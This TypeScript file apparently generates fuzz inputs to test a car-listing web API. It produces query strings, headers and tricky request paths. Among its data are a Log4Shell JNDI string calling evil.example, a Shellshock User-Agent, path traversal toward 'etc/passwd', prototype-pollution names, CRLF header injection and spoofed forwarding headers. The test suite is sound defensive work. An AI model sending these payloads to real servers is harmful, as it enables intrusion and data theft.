// Parts of requests: query strings of valid, borderline and arbitrary values for the table of parameters; valid headers
// of clients, proxies and attackers; and misleading paths with dots, double encoding, other slashes, other hosts and
// names of JavaScript properties.
import type { Random } from '../../src/demo/random.ts';
import { PARAMETERS, type Parameter } from '../../src/query/parameters.ts';
import { encoded, HOSTILE_TEXTS, hostileText } from './hostile-text.ts';

const WORDS = [
  'ford', 'Focus', 'golf', 'VW', 'Mercedes', '3 Series', 'Škoda', 'diesel', 'panoramic roof', 'estate', 'red', 'hetaed seats',
  'fosuc', 'full service history', '320d', 'automatic', 'a', '5', 'under £10k', 'near Leeds', '67 plate', 'not black', 'cheap',
]; // prettier-ignore
const POSTCODES = [
  'SW1A 1AA', 'sw1a1aa', 'LS1', 'G22', 'M1 1', 'BT1 5GS', 'SW', 'Leeds', 'ZZ9 9ZZ', 'JE2', 'EC1A 1BB ',
]; // prettier-ignore
const DEALERS = ['northgate-cars.example', 'https://www.valley-cars.example/', 'none.example', 'a,b,,c', ','];
const NUMBERS = [
  '0', '1', '-1', '007', '5000', '15000', '2015', '60000', '9007199254740991', '-9007199254740991', '9007199254740992',
  '12.5', '1e3', '10,000', '2.0', '1.4', '0.0000001', ' 12 ', '6', '7', '-0', '1.', '1_000',
]; // prettier-ignore

/** Names that are no parameters: misspelt ones, those of other programs, and those that JavaScript's objects have. */
const OTHER_NAMES = [
  'fuel', 'Make', 'price', 'pricemin', 'limit', 'offset', 'per_page', 'api_target', 'text', 'callback', 'utm_source', 'make[]',
  'make[$ne]', 'q.x', '__proto__', '__proto__[x]', 'constructor', 'constructor[prototype][x]', 'hasOwnProperty', 'toString', '',
]; // prettier-ignore

/** Without its question mark. */
export function queryString(random: Random): string {
  const maxPairs = random.chance(0.02) ? 200 : 5;
  const pairs = Array.from({ length: random.whole(0, maxPairs) }, () => pair(random));
  // Twice the same, or the same name with another value.
  if (pairs.length > 0 && random.chance(0.05)) pairs.push(random.pick(pairs));
  const separator = random.chance(0.03) ? random.pick([';', '&&', '&;', '%26', '?']) : '&';
  const tail = random.chance(0.03)
    ? random.pick(['&', '#fragment', '&%', '=', '&=', '&q', '?q=1', '&a=%00'])
    : '';
  return pairs.join(separator) + tail;
}

/** The name and value of one parameter, written as `name=value`. */
function pair(random: Random): string {
  if (random.chance(0.1)) {
    const name = random.chance(0.8) ? random.pick(OTHER_NAMES) : hostileText(random);
    return written(name, hostileText(random), random);
  }
  const parameter = random.pick(PARAMETERS);
  const value = random.chance(0.2) ? hostileText(random) : validValue(parameter, random);
  return written(parameter.name, value, random);
}

function written(name: string, value: string, random: Random): string {
  if (random.chance(0.01)) return encoded(name, random);
  return `${encoded(name, random)}=${encoded(value, random)}`;
}

function validValue({ kind, allowed = [], example }: Parameter, random: Random): string {
  if (random.chance(0.1)) return String(example);
  switch (kind) {
    case 'text':
      return Array.from({ length: random.whole(1, 3) }, () => random.pick(WORDS)).join(' ');
    case 'integer':
    case 'number':
      return random.chance(0.5)
        ? random.pick(NUMBERS)
        : String(random.whole(0, random.pick([7, 40, 3000, 90_000])));
    case 'enumeration':
      return random.chance(0.8) ? random.pick(allowed) : random.pick(allowed).toUpperCase();
    case 'domains':
      return random.pick(DEALERS);
    case 'postcode':
      return random.pick(POSTCODES);
  }
}

/** A phrase such as people type. */
export function phrase(random: Random): string {
  if (random.chance(0.3)) return hostileText(random);
  return Array.from({ length: random.whole(0, 9) }, () =>
    random.pick([...WORDS, ...POSTCODES, ...NUMBERS]),
  ).join(' ');
}

const ACCEPTS = [
  'application/json', '*/*', 'text/html,application/xhtml+xml', 'application/problem+json', 'application/json;q=0', '', ';;;',
  'text/html;q=0.5, application/json;q=nonsense', `${'a/b,'.repeat(200)}a/b`, 'application/json, text/event-stream',
]; // prettier-ignore

const TAGS = [
  '*', '"x"', 'W/"x"', 'W/"AAAAAAAAAAAAAAAAAAAAAAAAAAA"', 'nonsense', `"${'x'.repeat(3000)}"`, '"a", "b"', '"',
]; // prettier-ignore

type HeaderGenerator = (random: Random) => string;

const HEADER_GENERATORS: readonly HeaderGenerator[] = [
  (random) => `Accept: ${random.pick(ACCEPTS)}`,
  (random) => `Accept-Encoding: ${random.pick(['gzip', 'br', 'gzip;q=0', '*', 'identity;q=0', 'deflate', 'gzip, br, zstd', ';q=0'])}`,
  (random) => `Prefer: ${random.pick(['handling=strict', 'handling=lenient', 'handling=', 'HANDLING="strict"', 'return=minimal', ','])}`,
  (random) => `If-None-Match: ${random.pick(TAGS)}`,
  (random) => `Authorization: ${random.pick(['Bearer x', 'Bearer', 'Basic Og==', 'Bearer a.b.c', `Bearer ${'x'.repeat(5000)}`, 'bearer  \t x'])}`,
  (random) => `Origin: ${random.pick(['null', 'https://evil.example', 'http://localhost:1', 'file://', 'javascript:1', '*'])}`,
  (random) => `X-Forwarded-Host: ${random.pick(['evil.example', 'a b', '[::1]', '../', 'evil.example, b', '"><i-fuzz>'])}`,
  (random) => `X-Forwarded-Proto: ${random.pick(['https', 'javascript', 'gopher', ''])}`,
  (random) => `X-Forwarded-For: ${random.pick(['127.0.0.1', '::1', 'nonsense', `${'1.2.3.4, '.repeat(300)}1.2.3.4`, ''])}`,
  (random) => `Forwarded: ${random.pick(['for=127.0.0.1;host=evil.example;proto=http', 'for="[::1]"', ';;;'])}`,
  (random) => `X-Request-Id: ${random.pick(['<i-fuzz>', 'a'.repeat(2000), '-'])}`,
  (random) => `${random.pick(['X-Original-URL', 'X-Rewrite-URL', 'X-HTTP-Method-Override', 'X-Http-Method'])}: ${random.pick(['/status', 'DELETE', '//evil.example'])}`,
  (random) => `Range: ${random.pick(['bytes=0-0', 'bytes=-1', 'bytes=9-1', 'nonsense'])}`,
  (random) => `Cookie: ${random.pick(['a=b', '__proto__=x', `a=${'x'.repeat(4000)}`, ';;;='])}`,
  (random) => `Referer: ${random.pick(['https://evil.example/', 'nonsense', ''])}`,
  (random) => `User-Agent: ${random.pick(['fuzz', '() { :;}; echo', '${jndi:ldap://evil.example/}', ''])}`,
  (random) => `Content-Type: ${random.pick(['application/json', 'text/plain', ';', 'multipart/form-data', 'application/x-www-form-urlencoded'])}`,
  (random) => `${random.pick(['__proto__', 'constructor', 'toString', 'X-Fuzz-In'])}: ${random.pick(['x', '{}', ''])}`,
  (random) => `Access-Control-Request-Method: ${random.pick(['GET', 'DELETE', 'nonsense'])}`,
  (random) => `Access-Control-Request-Headers: ${random.pick(['x-fuzz', 'a,b,c', '*', 'nonsense nonsense'])}`,
  (random) => `Upgrade: ${random.pick(['websocket', 'h2c', 'HTTP/3', 'nonsense'])}\r\nConnection: Upgrade`,
  (random) => `Connection: ${random.pick(['close', 'keep-alive', 'Host', 'Content-Length, close', 'nonsense'])}`,
  (random) => `Expect: ${random.pick(['100-continue', 'nonsense', ''])}`,
  (random) => `TE: ${random.pick(['trailers', 'chunked', 'gzip;q=0.5'])}`,
  (random) => `Via: ${'1.1 a, '.repeat(random.whole(0, 200))}1.1 b`,
  (random) => `X-Bytes: ${Buffer.from(random.pick(HOSTILE_TEXTS)).toString('latin1').replace(/[\0-\x1f\x7f]/g, '')}`,
  (random) => Array.from({ length: random.pick([2, 50, 900]) }, (_, at) => `X-${at}: ${at}`).join('\r\n'),
]; // prettier-ignore

const HOSTS = [
  'localhost', '127.0.0.1', 'cars.example', 'evil.example', 'a b', '', '[::1]', '"><i-fuzz>', 'evil.example:99999',
]; // prettier-ignore

/** A Host header, and a few others. */
export function headers(random: Random): string[] {
  const host = `Host: ${random.chance(0.7) ? '127.0.0.1' : random.pick(HOSTS)}`;
  const count = random.chance(0.5) ? 0 : random.whole(1, 6);
  return [host, ...Array.from({ length: count }, () => random.pick(HEADER_GENERATORS)(random))];
}

const STARTS = [
  '/problems/', '/pictures/', '/page/x/', '/docs/', '/.well-known/', '/api/v1/', '/api/v1/vehicles/', '/cars/', '/mcp/', '/', '',
  '//', '/\\', '/dashboard/', '/metrics/', '/status/', '/healthz/', 'http://evil.example/', 'http://127.0.0.1/api/v1/vehicles/',
  'https://evil.example:99999/', 'http://[::1', 'file:///', '*', '/./', '/../',
]; // prettier-ignore

const STEPS = [
  '.', '..', '...', '%2e%2e', '.%2e', '%252e%252e', '..%2f', '..%252f', '..%5c', '..\\', '%c0%ae%c0%ae', '%2f', '%5c', '%00', '%0d%0a',
  'x-fuzz:1', 'etc', 'passwd', 'package.json', 'src', 'main.js', 'web', 'page.css', 'places.tsv', 'invalid-parameters',
  'not-found', 'not-found.', 'NOT-FOUND', 'suv-red-front-Nissan-Qashqai.svg', 'suv-red-front-%3Csvg%3E.svg', '__proto__',
  'constructor', 'hasOwnProperty', 'toString', 'prototype', ';', ';a=b', '~', ':', '@evil.example', '?', '#', '%', '%zz', '%ff', '*', '',
]; // prettier-ignore

const PLAIN = ['/', '/healthz', '/readyz', '/status', '/openapi.json', '/openapi.yaml', '/docs', '/llms.txt', '/robots.txt', '/problems/',
  '/problems/invalid-parameters', '/.well-known/api-catalog', '/favicon.ico', '/dashboard/', '/metrics']; // prettier-ignore

export function trickyTarget(random: Random): string {
  if (random.chance(0.15)) return random.pick(PLAIN);
  const steps = Array.from({ length: random.whole(1, 6) }, () => step(random));
  return random.pick(STARTS) + steps.join(random.pick(['/', '/', '//', '\\', '%2f', '']));
}

function step(random: Random): string {
  return random.chance(0.15) ? encoded(hostileText(random), random) : random.pick(STEPS);
}
